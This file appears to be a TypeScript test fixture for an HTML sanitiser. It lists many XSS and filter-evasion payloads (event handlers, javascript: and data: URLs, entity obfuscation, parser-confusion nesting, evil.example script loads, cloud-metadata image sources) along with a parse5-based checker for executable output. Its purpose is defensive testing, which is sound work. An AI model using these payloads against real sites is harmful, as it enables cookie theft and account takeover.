import { type DefaultTreeAdapterMap, html as htmlNamespaces, parseFragment } from 'parse5';

const html5Namespace = htmlNamespaces.NS.HTML;

// The hostile HTML corpus: markup that tries to get something executable (script, event handler,
// javascript:/data: URL, frame, style, form, meta refresh, base) past an HTML sanitiser, or to confuse its
// parser (broken nesting, unclosed tags, entity and whitespace obfuscation, raw-text elements, namespaces).
// sanitize-html is our XSS boundary (packages/html sanitizeBody, which the API also applies to stored
// article bodies): packages/html's hostile-html.test.ts runs it straight through sanitizeBody, the API's tests check
// that none of this survives a write, and the sanitize-html patch's equivalence test runs all of it through the
// patched and the unpatched library.

/** What an attacker holding an administrator's token (or forging a request) would try to store as an article body. */
export const STORED_BODY_ATTACKS: readonly string[] = [
  '<p onclick="steal()">Hello<script>alert(1)</script></p>',
  '<script src="https://evil.example/x.js"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src="https://cdn.example.com/a.jpg" onerror="steal()" onload="steal()">',
  '<img src=x onerror=alert(1)//',
  '<svg onload="steal()"><script>alert(2)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>">frame</iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">Go</button></form>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">b</a>',
  '<a href="jav&#x09;ascript:alert(1)">c</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">d</a>',
  '<a href=" javascript:alert(1)">e</a>',
  '<a href="vbscript:msgbox(1)">f</a>',
  '<a href="data:text/html,<script>alert(1)</script>">g</a>',
  '<p style="background:url(javascript:alert(1))" onmouseover="steal()">styled</p>',
  '<p/onmouseover=alert(1)>slash</p>',
  '<body onload="steal()"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:/">',
  '<div><a href="https://news.example.com/ok" onfocus="steal()" autofocus>fine link</a></div>',
];

/** Further filter-evasion vectors: URL schemes, attribute and tag obfuscation, parser confusion. */
const EVASION_VECTORS: readonly string[] = [
  // URL schemes: case, entities (decimal, hex, padded, without semicolons), control characters, whitespace.
  '<a href="javascript&colon;alert(1)">colon entity</a>',
  '<a href="java&#0000115;cript:alert(1)">padded entity</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">no semicolons</a>',
  '<a href="java\nscript:alert(1)">newline</a><a href="java\tscript:alert(1)">tab</a><a href="java\u0000script:alert(1)">nul</a>',
  '<a href="\u0001\u0002javascript:alert(1)">leading controls</a><a href="&#14;javascript:alert(1)">entity control</a>',
  '<a href="  JAVASCRIPT:alert(1)">upper</a><a href="javascript://%0Aalert(1)">comment break</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">base64</a>',
  '<a href="DATA:text/html,<svg/onload=alert(1)>">upper data</a><a href="vbscript&#58;msgbox(1)">vb</a>',
  '<a href="livescript:alert(1)">ls</a><a href="mocha:alert(1)">mocha</a><a href="file:///etc/passwd">file</a>',
  '<a href="//evil.example/%2e%2e">protocol-relative</a><a href="http://javascript:alert(1)@evil.example/">userinfo</a>',
  '<img src="javascript:alert(1)"><img src="jav&#x0A;ascript:alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 1x, https://x.example/a.jpg 2x" src="https://x.example/b.jpg">',
  '<blockquote cite="javascript:alert(1)">q</blockquote><q cite="data:text/html,x">q</q>',
  // Event handlers: every quoting, separators between attributes, upper case, duplicated attributes.
  '<img src=x onerror="alert(1)"><img src=x ONERROR=alert(1)><img src=x onerror=\'alert(1)\'><img src=x onerror=`alert(1)`>',
  '<img/src=x/onerror=alert(1)><img\nsrc=x\nonerror=alert(1)><img\tsrc=x\tonerror=alert(1)>',
  '<img src="x" src="javascript:alert(1)"><a href="https://ok.example/" href="javascript:alert(1)">dup</a>',
  '<img """><script>alert(1)</script>">',
  '<img src="x`<script>alert(1)</script>"` `>',
  '<a href="https://ok.example/" onmouseover=alert(1) title="t">t</a><a onclick="alert(1)">no href</a>',
  '<details open ontoggle=alert(1)>d</details><video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>m</marquee><body onpageshow=alert(1)><isindex action=javascript:alert(1)>',
  // Tags: case, broken names, nesting tricks, unclosed and half-written markup.
  '<SCRIPT>alert(1)</SCRIPT><ScRiPt>alert(1)</sCrIpT><script/xss>alert(1)</script>',
  '<script>alert(1)<!--</script>--><script>/*</script>*/alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<script\n>alert(1)</script\n><script src=//evil.example/x.js></script >',
  '<p>before<script>document.write("<p>x</p>")</script>after</p>',
  '<div><p>unclosed <b>tags <i>everywhere<p>next</div></span></i>',
  '<a href="https://ok.example/"><p>block in inline</a></p><table><a href="javascript:alert(1)">foster</a></table>',
  '<style>@import "https://evil.example/x.css";</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<p style="expression(alert(1))">ie</p><div style="behavior:url(x.htc)">b</div><span style="-moz-binding:url(x)">m</span>',
  '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a><animate onbegin=alert(1) attributeName=x /></svg>',
  '<svg><script>alert(1)</script><foreignObject><p>fo</p></foreignObject></svg>',
  '<math href="javascript:alert(1)">m</math><math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">n</noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>',
  '<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template><option><img src=x onerror=alert(1)></option>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset><applet code="x"></applet>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><object data="javascript:alert(1)"></object>',
  '<form><button formaction="javascript:alert(1)">x</button><input type="image" src="x" formaction="javascript:alert(1)"></form>',
  '<meta charset="x-imap4-modified-utf7"><meta http-equiv="Set-Cookie" content="a=b"><base href="https://evil.example/">',
  // Comments, CDATA, processing instructions, doctypes and conditional comments.
  '<!--<img src=x onerror=alert(1)>--><!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> --><!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE html>',
  '<? echo "<script>alert(1)</script>" ?><% alert(1) %>',
  // Entities and encodings inside text and attribute values.
  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;',
  '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">escaped in attribute</p>',
  '<img alt="\u2028\u2029" src="https://x.example/\u202e.jpg"><p>\ufeff\u200b</p>',
  '<a href="https://ok.example/?q=&quot;onmouseover=alert(1)//">q</a><img alt=\'"onerror=alert(1)//\' src=x>',
  '<a href="https://ok.example/"rel="opener"target="_blank"onmouseover="alert(1)">glued</a>',
  // Private addresses: images that would make a reader's browser (or a proxy) request the newsroom's network.
  '<img src="http://127.0.0.1/admin.png"><img src="http://169.254.169.254/latest/meta-data"><a href="http://10.0.0.1/">lan</a>',
  // Tracking and attribute keep-lists.
  '<img src="https://t.example/p.gif" width="1" height="1" onload=alert(1)><img src="https://i.example/a.jpg" width="640" style="x">',
  '<a href="mailto:x@example.com?body=<script>alert(1)</script>">mail</a><a href="tel:+1">tel</a>',
  '<td background="javascript:alert(1)">td</td><table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
  '<div id="x" class="y" data-x="javascript:alert(1)" aria-label="a" role="button">attrs</div>',
];

/**
 * Figures and inline images (issue 32: bodies hold figures with captions, images with alt and size): what an
 * attacker hides in the attributes and children a figure now keeps.
 */
export const FIGURE_ATTACKS: readonly string[] = [
  '<figure onclick="steal()"><img src="https://cdn.example.com/a.jpg" alt="x" onerror="steal()"><figcaption onmouseover="steal()">c</figcaption></figure>',
  '<figure><img src="javascript:alert(1)" alt="x"><figcaption>c</figcaption></figure>',
  '<figure><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x"></figure>',
  '<figure><img srcset="javascript:alert(1) 1x, https://cdn.example.com/a.jpg 2x" src="https://cdn.example.com/a.jpg"></figure>',
  '<figure><img src="https://cdn.example.com/a.jpg" alt="&quot; onerror=&quot;alert(1)"></figure>',
  '<figure><img src="https://cdn.example.com/a.jpg" alt=x" onerror="alert(1)" width="1" height="1"></figure>',
  '<figure><figcaption><script>alert(1)</script><a href="javascript:alert(1)">credit</a></figcaption></figure>',
  '<figure><img src="http://127.0.0.1/admin.png" alt="internal"><figcaption>c</figcaption></figure>',
  '<figure style="background:url(javascript:alert(1))"><img src="https://cdn.example.com/a.jpg" style="x:expression(alert(1))" alt="x"></figure>',
  '<figure><svg><image href="javascript:alert(1)"/></svg><figcaption>c</figcaption></figure>',
  '<figure><picture><source srcset="javascript:alert(1)"><img src="https://cdn.example.com/a.jpg" alt="x"></picture></figure>',
  '<figcaption><img src=x onerror=alert(1)>orphan caption</figcaption>',
];

/** The whole corpus: every attack and evasion vector above, one entry each. */
export const HOSTILE_HTML: readonly string[] = [
  ...STORED_BODY_ATTACKS,
  ...EVASION_VECTORS,
  ...FIGURE_ATTACKS,
];

/** Elements that run code, load active content, or change how the page or its links behave. */
const ACTIVE_ELEMENTS = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'form',
  'input',
  'button',
  'select',
  'textarea',
  'base',
  'meta',
  'link',
  'svg',
  'math',
  'template',
  'noscript',
  'portal',
  'isindex',
]);
/** Attributes whose value a browser loads or navigates to. */
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'srcset',
  'cite',
  'action',
  'formaction',
  'background',
  'poster',
  'data',
  'xlink:href',
]);
/** Of those, the ones a browser fetches by itself (no click): a private address there is a request into the newsroom's network. */
const LOADED_ATTRIBUTES = new Set(['src', 'srcset', 'background', 'poster', 'data']);
const SAFE_SCHEMES = new Set(['http:', 'https:', 'mailto:', 'tel:']);
const PRIVATE_HOST =
  /^(localhost|127\.|10\.|192\.168\.|169\.254\.|172\.(1[6-9]|2\d|3[01])\.|\[?::1\]?$|0\.)/i;

/**
 * What a browser would find executable or unsafe in `html`: parsed as a browser parses a fragment (parse5,
 * the WHATWG algorithm), so text that merely looks like markup (`&lt;img onerror=...&gt;`) is not reported.
 * Each entry names the element and the reason; an empty list means nothing runs, loads from a private address,
 * or links to a non-web scheme. Test helper for sanitised output.
 */
export function executableParts(html: string): string[] {
  const found: string[] = [];
  const visit = (node: DefaultTreeAdapterMap['childNode'] | DefaultTreeAdapterMap['documentFragment']) => {
    if ('tagName' in node) {
      if (ACTIVE_ELEMENTS.has(node.tagName) || node.namespaceURI !== html5Namespace)
        found.push(`<${node.tagName}> element`);
      for (const { name, value } of node.attrs) {
        if (/^on/i.test(name)) found.push(`<${node.tagName} ${name}> event handler`);
        if (name === 'style') found.push(`<${node.tagName} style> attribute`);
        if (URL_ATTRIBUTES.has(name)) {
          for (const url of name === 'srcset'
            ? value.split(',').map((part) => part.trim().split(/\s+/)[0] ?? '')
            : [value]) {
            const problem = unsafeUrl(url, { loaded: LOADED_ATTRIBUTES.has(name) });
            if (problem) found.push(`<${node.tagName} ${name}="${url}">: ${problem}`);
          }
        }
      }
    }
    if ('childNodes' in node) for (const child of node.childNodes) visit(child);
    if ('content' in node && node.content) visit(node.content);
  };
  visit(parseFragment(html));
  return found;
}

/**
 * Why a browser would not treat `url` as a plain web address, or null. Relative URLs are refused too. `loaded`:
 * the browser fetches it without a click (an image), so a private host is refused as well.
 */
export function unsafeUrl(url: string, { loaded = true } = {}): string | null {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return 'not an absolute URL';
  }
  if (!SAFE_SCHEMES.has(parsed.protocol)) return `scheme ${parsed.protocol}`;
  if (
    loaded &&
    (parsed.protocol === 'http:' || parsed.protocol === 'https:') &&
    PRIVATE_HOST.test(parsed.hostname)
  )
    return `private host ${parsed.hostname}`;
  return null;
}
